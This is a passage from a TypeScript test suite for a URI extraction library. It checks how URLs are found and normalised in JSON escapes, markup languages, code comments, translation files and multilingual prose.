      expect(uris(`${prose}${next}`)[0]).toBe("https://example.com/docs/path");
    }
    expect(uris("short https://a.example/x\\\ny/z.html\n")).toEqual(["https://a.example/x"]);
    // after a Markdown hard break: an address, a schemeless link, a phone number, a date, an
    // option, a path or a directive of its own; one space of indentation (the review's cases)
    const office = "See https://www.example.org/contact/department/office\\\n";
    for (const next of [
      "jane.doe@example.org",
      "github.com/foo/bar",
      "+1-555-123-4567",
      "2024-01-02T10:00",
      "==",
      "--verbose",
      "~/bin",
      "#include",
      "./configure",
      " tools/matlab/laplacian.m",
    ]) {
      expect(uris(`${office}${next}\n`)[0]).toBe(
        "https://www.example.org/contact/department/office",
      );
    }
    expectRecordsAtEverySplit(`${prose}Thanks\n${prose}of_the-rest`);
  });
});

describe("session 30: found by the JSON, TOML and YAML oracle (5,576 files, and their URLs re-escaped)", () => {
  test('serialize-javascript\'s "\\u002F\\u002F" after any scheme, as JSON\'s "\\/\\/"', () => {
    const text =
      '{"a":"git+https:\\u002F\\u002Fgithub.com\\u002Fbiomejs\\u002Fbiome.git",' +
      '"c":"foo:\\u002f\\u002fbar.example\\u002Fx","d":"foo:\\u002F"}';
    expect(uris(text)).toEqual(["git+https://github.com/biomejs/biome.git", "foo://bar.example/x"]);
    expectRecordsAtEverySplit(text);
  });

  test("a JSON string read for its escapes ends at its closing quote, as a quoted URI does", () => {
    const text =
      '{"a":"https:\\/\\/console.aws.amazon.com\\/elasticache\\/home#client-download:",' +
      '"b":"https:\\/\\/s3.example\\/k?versionId=sH3TQwBOaUy...",' +
      '"c":"https:\\/\\/a.example\\/x?a=1\\u0026b=2.","d":"see https:\\/\\/a.example\\/x.",' +
      '"e":"https:\\/\\/en.wikipedia.org\\/wiki\\/Foo_(bar)."}\n' +
      '"https://a.example/y." "https:\\/\\/a.example\\/y." (https:\\/\\/a.example\\/z.)';
    expect(extractText(text).map((f) => [f.uri, f.delimiter, f.raw])).toEqual([
      [
        "https://console.aws.amazon.com/elasticache/home#client-download:",
        "quote",
        '"https:\\/\\/console.aws.amazon.com\\/elasticache\\/home#client-download:"',
      ],
      [
        "https://s3.example/k?versionId=sH3TQwBOaUy...",
        "quote",
        '"https:\\/\\/s3.example\\/k?versionId=sH3TQwBOaUy..."',
      ],
      ["https://a.example/x?a=1&b=2.", "quote", '"https:\\/\\/a.example\\/x?a=1\\u0026b=2."'],
      // inside a longer string the URI is bare, and so is its sentence's full stop
      ["https://a.example/x", "bare", "https:\\/\\/a.example\\/x"],
      [
        "https://en.wikipedia.org/wiki/Foo_(bar).",
        "quote",
        '"https:\\/\\/en.wikipedia.org\\/wiki\\/Foo_(bar)."',
      ],
      ["https://a.example/y.", "quote", '"https://a.example/y."'],
      ["https://a.example/y.", "quote", '"https:\\/\\/a.example\\/y."'],
      ["https://a.example/z", "paren", "https:\\/\\/a.example\\/z"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a JSON string's quotes are its own: none shared with another record; a placeholder, a template, a field and a prefix stay as they were (review)", () => {
    const text =
      '"http://a"https:\\/\\/b\\/c" "https:\\/\\/a"http://c" urlopen("https:\\/\\/...") ' +
      '"https:\\/\\/$HOST\\/x" {"type":"message:created\\u0021"} "news:comp.lang.c\\u002e" ' +
      '"URL:https:\\/\\/a\\/b."';
    expect(extractText(text).map((f) => [f.uri, f.delimiter, f.start, f.end])).toEqual([
      ["http://a", "quote", 0, 10],
      ["https://b/c", "bare", 10, 24],
      ["https://a", "quote", 26, 39],
      ["http://c", "bare", 39, 47],
      ["https://$HOST/x", "bare", 75, 93],
      ["news:comp.lang.c", "bare", 129, 145],
      ["https://a/b", "url-prefix", 154, 172],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 31", () => {
  test("a soft hyphen between letters of a host is the host's (UTS #46 maps it to nothing); at the host's end it is not", () => {
    const text =
      "see http://exam\u00adple.com/x ok, http://example.com\u00ad ok, " +
      "https://ex\u00adample.org/\u00ad and http://a.example/pa\u00adth";
    expect(extractText(text).map((f) => [f.uri, f.normalized])).toEqual([
      ["http://exam\u00adple.com/x", "http://example.com/x"],
      ["http://example.com", "http://example.com/"],
      ["https://ex\u00adample.org/\u00ad", "https://example.org/%C2%AD"],
      // (in a path, between letters, it is an e-book's hyphenation: dropped, session 41)
      ["http://a.example/path", "http://a.example/path"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("elsewhere a soft hyphen in a host is a symbol, as before (review)", () => {
    const text =
      "http://example\u00ad.com/ http://example.com\u00ad\u00a0next http://example.com\u00ad\u2122 " +
      "http://example.com\u00ad\u3044\u307e http://example.com\u00ad\u00e9t\u00e9 " +
      "http://example.com\u00ad\u00ad foo http://192.168.0.1\u00ad2/";
    expect(extractText(text).map((f) => f.uri)).toEqual([
      "http://example\u00ad.com/",
      "http://example.com",
      "http://example.com",
      "http://example.com",
      "http://example.com",
      "http://example.com",
      "http://192.168.0.1",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("fuzzy: a soft hyphen inside a word of a schemeless link is the link's, not its start (review)", () => {
    const text =
      "see www.exam\u00adple.com ok, exam\u00adple.org/x and \u00adexample.net, " +
      "word\u00adwww.example.com, jo\u00adhn@example.com, www.b\u00fc\u00adcher.de";
    expect(extractText(text, { fuzzy: true }).map((f) => [f.uri, f.normalized, f.start])).toEqual([
      ["http://www.exam\u00adple.com", "http://www.example.com/", 4],
      ["http://exam\u00adple.org/x", "http://example.org/x", 26],
      ["http://example.net", "http://example.net/", 48],
      // a link starts at "www."; a local part keeps its soft hyphen (only a host maps it away)
      ["http://www.example.com", "http://www.example.com/", 67],
      ["mailto:jo\u00adhn@example.com", "mailto:jo%C2%ADhn@example.com", 84],
      ["http://www.b\u00fc\u00adcher.de", "http://www.xn--bcher-kva.de/", 104],
    ]);
  });
});

describe("session 32", () => {
  test("a feed's escaped HTML: '&amp;amp;' in an href is '&' (read by an XML and then an HTML reader)", () => {
    const text =
      "<description>&lt;a href=&quot;http://freshmeat.net/projects/besc/?branch_id=61879&amp;amp;release_id=214566&quot;&gt;x&lt;/a&gt;</description>\n" +
      "http://e.example/?a=1&amp;amp;amp;b=2 and http://e.example/?a=1&amp;ampx=2";
    expect(extractText(text).map((f) => [f.uri, f.raw])).toEqual([
      [
        "http://freshmeat.net/projects/besc/?branch_id=61879&release_id=214566",
        "http://freshmeat.net/projects/besc/?branch_id=61879&amp;amp;release_id=214566",
      ],
      ["http://e.example/?a=1&b=2", "http://e.example/?a=1&amp;amp;amp;b=2"],
      ["http://e.example/?a=1&ampx=2", "http://e.example/?a=1&amp;ampx=2"],
    ]);
  });

  test("a shell command substitution or a make variable in a path ends the URI before its '$', as '${' does", () => {
    const text =
      "tsc --sourceRoot https://raw.githubusercontent.com/x/y/$(git rev-parse HEAD)/src/\n" +
      "URL = https://example.com/dist/$(VERSION)/x.tar.gz and https://example.com/dist/$\u007bVERSION}/x\n" +
      "kept: https://example.com/a$b https://x.example/?$filter=a($b) https://x.example/$";
    expect(uris(text)).toEqual([
      "https://raw.githubusercontent.com/x/y/",
      "https://example.com/dist/",
      "https://example.com/dist/",
      "https://example.com/a$b",
      "https://x.example/?$filter=a($b)",
      "https://x.example/$",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an AsciiDoc macro's attribute list is the link text, not the URI's; so is an empty '[]'", () => {
    const text =
      "link:https://github.com/jetty/jetty.project[GitHub].\n" +
      "link:https://jetty.org/docs/[]. image::https://x.example/i.png[Alt]\n" +
      "(link:https://x.example/a?b=1[Text,window=_blank]) see https://x.example/docs/[] ok\n" +
      "kept: https://x.example/p?a[]=1&a[]=2 https://example.com/c[1] https://x.example/a[b] mylink:https://x.example/a[b]\n" +
      "end https://x.example/docs/[]";
    expect(uris(text)).toEqual([
      "https://github.com/jetty/jetty.project",
      "https://jetty.org/docs/",
      "https://x.example/i.png",
      "https://x.example/a?b=1",
      "https://x.example/docs/",
      "https://x.example/p?a[]=1&a[]=2",
      "https://example.com/c",
      "https://x.example/a[b]",
      "https://x.example/a[b]",
      "https://x.example/docs/",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("colours changed right before another 'scheme://' end the URI (git diff --color-words); inside one they are dropped", () => {
    const text =
      "Home: \u001b[31mhttp://old.example.com/x\u001b[m\u001b[32mhttps://new.example.com/y\u001b[m\n" +
      "Vite http://localhost:\u001b[1m5173\u001b[22m/ ok";
    expect(uris(text)).toEqual([
      "http://old.example.com/x",
      "https://new.example.com/y",
      "http://localhost:5173/",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a quote, a comma and a quote end a URI whose quote scan fell back (SQL, a JavaScript array)", () => {
    const text =
      "INSERT INTO t VALUES (1,'https://a.example/x\\'y','https://b.example/');\n" +
      "(1,'https://a.example/x\\'y', 'text')";
    expect(uris(text)).toEqual([
      "https://a.example/x'y",
      "https://b.example/",
      "https://a.example/x'y",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 32, hard wraps", () => {
  test("an IPv6 address on the line after a URI that fills its line is no hash's tail: not joined (planted-test counterexample)", () => {
    const url = "aaa://0.0.0.0:10/aaaaaa/%C3%A4aaaa/../aaaa--aa#a=http:%2F/aa-aa.aaaa";
    const text = `${url}\r\nfe80::1\n\nsee Http://b\u00fccher.aa. `;
    expect(uris(text)).toEqual([url, "Http://b\u00fccher.aa"]);
    expectRecordsAtEverySplit(text);
  });

  test("a 'URL:' or 'URI:' label opening the line after a URI that fills its line, or ends in a hyphen, is the next URI's (planted-test counterexample)", () => {
    // "…%20Es_ES" CRLF "URL:news:a.a" gave "…%20Es_ESURL:news:a.a": the label is no scheme
    // (uri and url are none), yet it opens an item of its own, as a scheme would
    const url = "gopher://aaa.a.aaaa/0aaaaa/%09%09+application/postscript%20Es_ES";
    const text = `URL:${url}\r\nURL:news:a.a see ${url}\nuri:urn:isbn:1 and http://a.example/aaa-\nURL:news:b.b\n`;
    expect(uris(text)).toEqual([
      url,
      "news:a.a",
      url,
      "urn:isbn:1",
      "http://a.example/aaa-",
      "news:b.b",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 33", () => {
  test("a host broken after its first label's '.' goes on in a dotted name on the next line (pdftotext's text of a PDF); a '.' after a dotted host or a single label before prose is the sentence's", () => {
    const text =
      "from http://www.\npoker-edge.com/stats.php here\nsee http://help.\n  github.com/articles/x and\n" +
      "Go to http://localhost.\nThen run it. Visit http://example.com.\nnext.example.org is\n" +
      "> quoted http://www.\n> example.org/a\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["http://www.poker-edge.com/stats.php", true],
      ["http://help.github.com/articles/x", true],
      ["http://localhost", false],
      ["http://example.com", false],
      ["http://www.example.org/a", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a Korean particle or a hyphen's case ending glued to an ASCII URI is the sentence's; a hangul title, a Cyrillic compound stay (translations vs their English)", () => {
    const text =
      "자세한 사항은 http://www.gnu.org/copyleft/lesser.html에서 확인하세요.\n" +
      "smb://server/resource/file.txt와 같이 https://ko.wikipedia.org/wiki/32분음표 와\n" +
      "விவரங்களுக்கு https://bugs.kde.org/-ஐ பார்க்கவும். http://anjuta.org-ից։\n" +
      "https://ru.wikipedia.org/wiki/IT-отдел and http://www.arabstutors.comعبدالسلام بن\n" +
      "詳しい情報はhttp://www.libravatar.org/まで。 https://ja.wikipedia.org/wiki/のだめ\n";
    expect(uris(text)).toEqual([
      "http://www.gnu.org/copyleft/lesser.html",
      "smb://server/resource/file.txt",
      "https://ko.wikipedia.org/wiki/32분음표",
      "https://bugs.kde.org/",
      "http://anjuta.org",
      "https://ru.wikipedia.org/wiki/IT-отдел",
      "http://www.arabstutors.com",
      "http://www.libravatar.org/",
      "https://ja.wikipedia.org/wiki/のだめ",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("the Japanese copula or など glued to an ASCII URI is the sentence's; a title that starts with it after a / stays (session 50)", () => {
    const text =
      "こちらhttps://example.jp/index.htmlです。 資料はhttps://example.jp/docs/2024でした。\n" +
      "https://example.jp/aなど、https://example.jp/guide.pdfですが、" +
      "https://ja.wikipedia.org/wiki/です・ます調 https://example.jp/aです調\n";
    expect(uris(text)).toEqual([
      "https://example.jp/index.html",
      "https://example.jp/docs/2024",
      "https://example.jp/a",
      "https://example.jp/guide.pdf",
      "https://ja.wikipedia.org/wiki/です・ます調",
      "https://example.jp/a",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("the copula with a final particle, でしょう going on, など and a particle glued to an ASCII URI are the sentence's, as the copula alone is; titles after a / stay (session 51)", () => {
    // the closing note of session 50: "…でしょう" was cut, "…でしょうか", "…だよ", "…などを参照" kept
    const text =
      "詳細はhttps://example.jp/index.htmlでしょうか？ https://example.jp/aだよ。\n" +
      "https://example.jp/docs/などを参照 https://example.jp/aでしょうから https://example.jp/bなどで公開\n" +
      // near misses: a title after "/" that opens with a copula or など and goes on
      "https://ja.wikipedia.org/wiki/です・ます調 https://ja.wikipedia.org/wiki/だよもん " +
      "https://ja.wikipedia.org/wiki/などなど\n";
    expect(uris(text)).toEqual([
      "https://example.jp/index.html",
      "https://example.jp/a",
      "https://example.jp/docs/",
      "https://example.jp/a",
      "https://example.jp/b",
      "https://ja.wikipedia.org/wiki/です・ます調",
      "https://ja.wikipedia.org/wiki/だよもん",
      "https://ja.wikipedia.org/wiki/などなど",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a Chinese clause glued to a segment's ASCII letters is the sentence's when it opens with a verb; a name, a title after /, a query's value stay (session 50)", () => {
    const text =
      "访问https://github.com/user/repo查看源码，请访问https://example.cn/docs/guide获取更多信息。\n" +
      "請參考https://example.tw/a以了解詳情 见https://zh.wikipedia.org/wiki/C语言 和\n" +
      "https://www.baidu.com/s?wd=python下载 https://example.cn/docs/了解更多 https://example.cn/x/v2即可。 https://example.com/v1.2了解\n" +
      // nouns made of a verb, and titles under /wiki/ or /item/ (the session 50 review)
      "https://zh.wikipedia.org/wiki/Google阅读器 https://example.cn/IP访问控制列表 https://example.cn/APP下载量\n" +
      "https://baike.baidu.com/item/BT下载 https://baike.baidu.com/item/Python下载安装\n";
    expect(uris(text)).toEqual([
      "https://github.com/user/repo",
      "https://example.cn/docs/guide",
      "https://example.tw/a",
      "https://zh.wikipedia.org/wiki/C语言",
      "https://www.baidu.com/s?wd=python下载",
      "https://example.cn/docs/了解更多",
      "https://example.cn/x/v2",
      "https://example.com/v1.2",
      "https://zh.wikipedia.org/wiki/Google阅读器",
      "https://example.cn/IP访问控制列表",
      "https://example.cn/APP下载量",
      "https://baike.baidu.com/item/BT下载",
      "https://baike.baidu.com/item/Python下载安装",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("…the real case of the session 50 translation hunt: Wesnoth's zh_CN man page glues 以查看 to a wiki title (wesnoth-1.16 1.16.9, po/wesnoth-manpages/zh_CN.po)", () => {
    // (2acacf9 took the whole clause into the URI; the English msgid has
    // "See https://www.wesnoth.org/wiki/ServerAdministration on what commands …")
    const text =
      "管理韦诺之战的多人游戏。请参见http://www.wesnoth.org/wiki/ServerAdministration以查看服务器可以接受的命令列表。" +
      "服务器可以从wesnoth客户端（/query ...）或者fifo接受命令。\n";
    expect(uris(text)).toEqual(["http://www.wesnoth.org/wiki/ServerAdministration"]);
    expectRecordsAtEverySplit(text);
  });

  test("…a Chinese word right after a scheme's // is no host: epiphany's 'must start with http:// or https://' (epiphany-browser 43.1, po/zh_CN.po; session 50)", () => {
    const text =
      "地址必须以http://或https://开头\n以http://或 https://开头，再见 见http://日本\u3002jp/。そして http://日本abc.jp/ x\n";
    expect(uris(text)).toEqual(["http://日本\u3002jp/", "http://日本abc.jp/"]);
    expectRecordsAtEverySplit(text);
  });

  test("…a case ending glued without a hyphen inside a segment, a Korean particle with its other form in parentheses, a Turkish suffix after U+02BC (the translation hunt, session 38)", () => {
    const text =
      "libvirt: openvz:///systemஐ இணைக்க, vz:///system을(를) 사용, qemu:///embed여야 합니다, " +
      "http://a.example/x와(과) http://a.example/y(으)로 https://libravatar.orgʼda 'alias=uri://host/path'가\n" +
      // after a "/", a title's (Tamil, Tibetan); a path's own parentheses stay
      "https://ta.wikipedia.org/wiki/தமிழ் http://www.jamendo.com/ལུ་ http://a.example/을(를) " +
      "http://a.example/f(x) http://a.example/z(a)\n";
    expect(uris(text)).toEqual([
      "openvz:///system",
      "vz:///system",
      "qemu:///embed",
      "http://a.example/x",
      "http://a.example/y",
      "https://libravatar.org",
      "uri://host/path",
      "https://ta.wikipedia.org/wiki/தமிழ்",
      "http://www.jamendo.com/ལུ་",
      "http://a.example/을(를)",
      "http://a.example/f(x)",
      "http://a.example/z(a)",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("fuzzy: a case ending after a schemeless name, with a hyphen or glued, an Arabic or Hebrew prefix and full-width punctuation before one are the sentence's (the translation hunt, session 38)", () => {
    const text =
      "Audio.com-ra feltöltés, lists.debian.org-hoz, Last.fm-ге, " +
      "probe.filezilla-project.org-ին, apt@packages.debian.org-ra, jamendo.comஇல், " +
      "irc.gnome.orgకు, Last.fmསྐོར་, 提问：digikam-users@kde.org（例如：joe@company.com）\n" +
      "راسل لgnucash-devel@gnucash.org أو ו-acc@b.example ל־c@d.example بـopenstreetmap.org وdebian.org، אבג@example.com\n" +
      "Last.fm® FANART.TV™ libravatar.orgʼda\n" +
      // another label, a hyphenated host going on, an IDN's "xn--", a path: the name's; a
      // longer ASCII word is an identifier's (a Maven repository's id, a build profile)
      "foo.com-bar.example www.a.de-b.example.org www.xn--p1ai.com www.example.com/a-b " +
      "ow2.org-snapshot pkg.e2fsprogs.no-static W3C.CR-WOFF2 " +
      // … and so is a short one that is no case ending (the review: code's identifiers)
      '"es.number.is-nan" [dependencies.im-rc] hook.io-irc GTimeVal.tv-sec foo.com-foo\n';
    const expected = [
      "http://Audio.com",
      "http://lists.debian.org",
      "http://Last.fm",
      "http://probe.filezilla-project.org",
      "mailto:apt@packages.debian.org",
      "http://jamendo.com",
      "http://irc.gnome.org",
      "http://Last.fm",
      "mailto:digikam-users@kde.org",
      "mailto:joe@company.com",
      "mailto:gnucash-devel@gnucash.org",
      "mailto:acc@b.example",
      "mailto:c@d.example",
      "http://openstreetmap.org",
      "http://debian.org",
      "mailto:אבג@example.com",
      "http://Last.fm",
      "http://FANART.TV",
      "http://libravatar.org",
      "http://www.a.de-b.example.org",
      "http://www.xn--p1ai.com",
      "http://www.example.com/a-b",
    ];
    expect(uris(text, { fuzzy: true })).toEqual(expected);
    const bytes = Buffer.from(text);
    for (let cut = 1; cut < bytes.length; cut += 7) {
      const got: string[] = [];
      const sc = new TextScanner({ fuzzy: true }, (f) => got.push(f.uri));
      sc.push(bytes.subarray(0, cut));
      sc.push(bytes.subarray(cut));
      sc.end();
      expect(got, `cut ${cut}`).toEqual(expected);
    }
  });

  test("a Finnish case ending after a scheme-named acronym, and a duration's format with days, are no URIs (the translation hunt, session 38)", () => {
    const text =
      "Apt:n asetukset, apt:sta ladattu, MMS:n kautta, dns:ään, SIP:n, XMPP:n, SMS:n, Skype:n, " +
      "bitcoin:n; muoto gg:hh:mm:ss ja gg:sa:dd:ss.\n" +
      // a word that is no case ending, a wrapper, a host, a time of three fields then more: URIs
      "apt:firefox <apt:n> xmpp:ta.example skype:echo123 sip:biloxi.com gg:hh:mm:ss:x\n";
    expect(uris(text)).toEqual([
      "apt:firefox",
      "apt:n",
      "xmpp:ta.example",
      "skype:echo123",
      "sip:biloxi.com",
      "gg:hh:mm:ss:x",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a scheme named alone with a word glued after its '//' gives no URI: a hyphen's ending, a particle, kana; a dotted IDN host stays", () => {
    const text =
      "რომ იწყება http://-ით ან https://-ით.\n" +
      "http:// 혹은 https://로 시작해야 スキーマはldap://でなければなりません http://例え.テスト/ ok\n";
    expect(extractText(text, { includeInvalid: true }).map((f) => f.uri)).toEqual([
      "http://例え.テスト/",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a line of uuencoded data is no URI's (a Lotus Notes attachment in a text part: RT's notes-uuencoded); an uppercase URI in a line of another length is", () => {
    const text =
      "begin 644 Naz_Head.jpg\n" +
      "M.R'2';MF,RHIG4R,$1&^=D_I`&,C*DIM+O:<H7:FNVV32&(UAA=.>4=4`50U\n" +
      "M((+PM\\LCV7,51IZD-]UTET'%IPN:ZK++L.`\"U>F?K5>6Z!C?NJ=4EM0S'PIJ\n" +
      "`\nend\n" +
      "SEE <HTTP://EXAMPLE.COM/A> AND NEWS:COMP.LANG.C\n" +
      // (a line as long as its first character would say: "'" is 7 bytes, 13 in all)
      "'FILE:///%00'\n";
    expect(uris(text)).toEqual(["HTTP://EXAMPLE.COM/A", "NEWS:COMP.LANG.C", "FILE:///%00"]);
    expectRecordsAtEverySplit(text);
  });

  test("…after a long upper-case line full of colons (whose later colons are not looked back over again)", () => {
    const uu = "M.R'2';MF,RHIG4R,$1&^=D_I`&,C*DIM+O:<H7:FNVV32&(UAA=.>4=4`50U\n";
    const text =
      `${"ERROR:MODULE:".repeat(12)}HTTP://A.EXAMPLE/X\n${uu}` +
      `${"URL:".repeat(30)}\n${uu}${"WARN:".repeat(20)} SEE NEWS:COMP.LANG.C\n`;
    expect(uris(text)).toEqual(["HTTP://A.EXAMPLE/X", "NEWS:COMP.LANG.C"]);
    expectRecordsAtEverySplit(text);
  });

  test("a TeX URL argument (\\url{…}, \\href{…}, a BibTeX url = {…}) runs to its '}': line breaks in it dropped, its trailing punctuation kept, LaTeX escapes read", () => {
    const text =
      "@misc{x,\n    url             = {http://www.terra.com.br/virtualbooks/\n                       freebook/port/Lport2/navionegreiro.htm},\n}\n" +
      "  archived at \\url{http://www.doi.org/mail-archive/\n                 ref-link/msg00088.html}\\bibnodot{.}},\n" +
      "4, 2002, at \\url{http://www.house.gov/reform/min/index_accord.htm.})\n" +
      "url = {http://link.springer.com/10.1007/978-3-030-03083-4{\\_}4},\n" +
      "\\href{http://y.example/?a=1\\&b=2\\#c}{text} \\url{http://z.example/a{b}c}\n" +
      "url = {http://www.nature.com/a.html http://www.nature.com/doifinder/b},\n";
    expect(extractText(text).map((f) => [f.uri, f.delimiter, f.wrapped])).toEqual([
      [
        "http://www.terra.com.br/virtualbooks/freebook/port/Lport2/navionegreiro.htm",
        "paren",
        true,
      ],
      ["http://www.doi.org/mail-archive/ref-link/msg00088.html", "paren", true],
      ["http://www.house.gov/reform/min/index_accord.htm.", "paren", false],
      ["http://link.springer.com/10.1007/978-3-030-03083-4_4", "paren", false],
      ["http://y.example/?a=1&b=2#c", "paren", false],
      ["http://z.example/a{b}c", "paren", false],
      ["http://www.nature.com/a.html", "paren", false],
      ["http://www.nature.com/doifinder/b", "bare", false],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("… not a brace that opens no URL argument: a '{' after another command, a field of another name, a Texinfo @url", () => {
    const text =
      "\\textbf{http://a.example/x.} note = {http://b.example/y.} @url{http://c.example/z, text}\n";
    expect(uris(text)).toEqual(["http://a.example/x", "http://b.example/y", "http://c.example/z"]);
    expectRecordsAtEverySplit(text);
  });

  test("a comment's URI that fills its line goes on only in a line that repeats the comment's leader (Boost, serde, flycheck: a hard wrap into code)", () => {
    const text =
      "  // http://www.itl.nist.gov/div898/handbook/eda/section3/eda362.htm#HAZ\n   BOOST_MATH_STD_USING\n" +
      "        // clippy bug: https://github.com/rust-lang/rust-clippy/issues/5704\n        unnested_or_patterns,\n" +
      "            ;; import bar'), see https://github.com/flycheck/flycheck/issues/280\n            source-inplace)\n" +
      "# see https://docs.example.com/dlls-statically-linked-\nto-mfc\n" +
      "  # see https://docs.example.com/dlls-statically-linked-\n  # to-mfc\n" +
      "- see https://docs.example.com/dlls-statically-linked-\n  to-mfc\n";
    expect(uris(text)).toEqual([
      "http://www.itl.nist.gov/div898/handbook/eda/section3/eda362.htm#HAZ",
      "https://github.com/rust-lang/rust-clippy/issues/5704",
      "https://github.com/flycheck/flycheck/issues/280",
      "https://docs.example.com/dlls-statically-linked-",
      "https://docs.example.com/dlls-statically-linked-to-mfc",
      "https://docs.example.com/dlls-statically-linked-to-mfc",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a C comment opened before the URI on its line, or a doc comment's last line, closes at the URI's '*/'; a glob's '*/' inside a path stays", () => {
    const text =
      "    /** http://www.w3.org/TR/xmlschema-1/#e-notation*/\n" +
      "/* http://x.example/a*/ /** See https://x.example/b.*/\n" +
      " * see https://x.example/c/d*/\n" +
      "/* https://x.example/*checkout*/y */ and https://x.example/*/\n" +
      "/* see http://a.example/ and http://b.example/c*/\n";
    expect(uris(text)).toEqual([
      "http://www.w3.org/TR/xmlschema-1/#e-notation",
      "http://x.example/a",
      "https://x.example/b",
      "https://x.example/c/d",
      "https://x.example/*checkout*/y",
      "https://x.example/*/",
      "http://a.example/",
      "http://b.example/c",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a '* ' at a line's very start is a list's bullet, no doc comment's line: a URI's '*/' stays (planted-test counterexample)", () => {
    // "* (http://aa/*/)" gave http://aa/: read as a doc comment's last line
    const text =
      "* (http://aa/*/) and\n* see http://b.example/c*/\n\t* see https://x.example/d*/\n";
    expect(uris(text)).toEqual(["http://aa/*/", "http://b.example/c*/", "https://x.example/d"]);
    expectRecordsAtEverySplit(text);
  });

  test("an old drive letter's '|' after a host is the path's (RFC 8089 App. E.2.2; Vim's netrw)", () => {
    const found = extractText("see file://localhost/c|/WINDOWS/clock.avi\n", {
      includeInvalid: true,
    });
    expect(found.map((f) => [f.uri, f.valid])).toEqual([
      ["file://localhost/c|/WINDOWS/clock.avi", false],
    ]);
  });

  test("Texinfo's '@/' (a line may break), '@-' and '@:' inside @url{…} and @uref{…} print nothing (80 in GNU manuals)", () => {
    const text =
      "@url{http://ftpmirror.gnu.org/@/texinfo/@/htmlxref.cnf}.\n" +
      "@uref{https://@/docs.oracle.com/@/cd/@/806-3568/@/ncg@-goldberg.html,\nWhat Every}\n" +
      "see http://a.example/@/b and @uref{mailto:bug@@gnu.org@:}";
    expect(extractText(text).map((f) => [f.uri, f.raw])).toEqual([
      [
        "http://ftpmirror.gnu.org/texinfo/htmlxref.cnf",
        "http://ftpmirror.gnu.org/@/texinfo/@/htmlxref.cnf",
      ],
      [
        "https://docs.oracle.com/cd/806-3568/ncggoldberg.html",
        "https://@/docs.oracle.com/@/cd/@/806-3568/@/ncg@-goldberg.html",
      ],
      ["http://a.example/@/b", "http://a.example/@/b"],
      ["mailto:bug@gnu.org", "mailto:bug@@gnu.org"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("adjacent string literals: a URI that runs to one string's end goes on in the string that opens the next line (PO files, C, Python)", () => {
    const text =
      'msgstr ""\n"Oversettelsesfeil kan rapporteres til <https://translationproject.org/team/"\n"nb.html>.\\n"\n' +
      'msgstr ""\n"the latest version: visit http://www.inf.enst.fr/~demaille/"\n"a2ps/.\\n"\n' +
      '#~ msgstr "GPL phien ban 3 hay sau <https://"\n#~ "gnu.org/licenses/gpl.html>.\\n"\n' +
      'printf("see http://c.example/very/long/"\n       "path/file.html\\n");\n';
    expect(extractText(text).map((f) => [f.uri, f.delimiter, f.wrapped])).toEqual([
      ["https://translationproject.org/team/nb.html", "angle", true],
      ["http://www.inf.enst.fr/~demaille/a2ps/", "bare", true],
      ["https://gnu.org/licenses/gpl.html", "angle", true],
      ["http://c.example/very/long/path/file.html", "bare", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("… not into another 'scheme://', not when the quote closes no string opened before the URI, not after blanks inside <…>, and a string that is the URI alone stays whole", () => {
    const text =
      'urls = ["see http://a.example/x/"\n        "http://b.example/y"]\n' +
      'echo http://e.example/q"\n"next"\n' +
      '"(v.d. <file:///tmp/a.txt sftp:///"\n"root@h.example/a.txt>)."\n' +
      'URLS=(\n  "http://d.example/z"\n  "b.txt"\n)\n' +
      // (review) a CSV row's second field, dialogue, a statement; a URI without "//" next
      'id,desc\n"1","See http://example.com/page"\n"2","Other"\n' +
      'He said, "Go to http://example.com/"\n"OK," I said.\n' +
      '  puts "Docs: http://example.com/x"\n  "done"\n' +
      '"see http://a.example/m/"\n"mailto:a@b.example"\n' +
      // … but past an earlier URI of the line, and after "http://" a host's "www."
      'x = "see http://a.example/ and https://example.com/very/long/"\n    "path/file.html"\n' +
      'msgstr[1] "Odwied\u017a http://"\n"www.gnu.org/software/parted/parted.html"\n';
    expect(uris(text)).toEqual([
      "http://a.example/x/",
      "http://b.example/y",
      "http://e.example/q",
      "file:///tmp/a.txt",
      "http://d.example/z",
      "http://example.com/page",
      "http://example.com/",
      "http://example.com/x",
      "http://a.example/m/",
      "mailto:a@b.example",
      "http://a.example/",
      "https://example.com/very/long/path/file.html",
      "http://www.gnu.org/software/parted/parted.html",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a Java properties value's escaped ':' (Properties.store, every Gradle wrapper): the scheme's and the port's colon read as ':'", () => {
    const text =
      "#Gradle wrapper\n" +
      "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n" +
      "repo.url = http\\://nexus.example.com\\:8081/repository/maven-public/?a\\=1\n";
    const found = extractText(text);
    expect(found.map((f) => [f.uri, f.raw, f.column, f.wrapped])).toEqual([
      [
        "https://services.gradle.org/distributions/gradle-8.5-bin.zip",
        "https\\://services.gradle.org/distributions/gradle-8.5-bin.zip",
        17,
        false,
      ],
      [
        "http://nexus.example.com:8081/repository/maven-public/?a=1",
        "http\\://nexus.example.com\\:8081/repository/maven-public/?a\\=1",
        12,
        false,
      ],
    ]);
    expectRecordsAtEverySplit(text);
    // a value continued with "\\" at its line's end (Properties#load), the next line's
    // indentation skipped
    expect(
